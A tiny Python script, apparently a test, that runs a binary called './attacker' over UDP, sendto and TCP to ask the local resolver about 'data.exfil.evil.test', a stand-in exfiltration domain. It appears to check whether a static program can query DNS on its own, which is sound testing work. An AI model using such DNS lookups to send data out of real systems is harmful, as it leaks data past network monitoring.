"""A static program puts a question of its own to the name server."""
import subprocess

for way in ("udp", "sendto", "tcp"):
    subprocess.run(["./attacker", "ask", way, "data.exfil.evil.test", "127.0.0.53:53"])
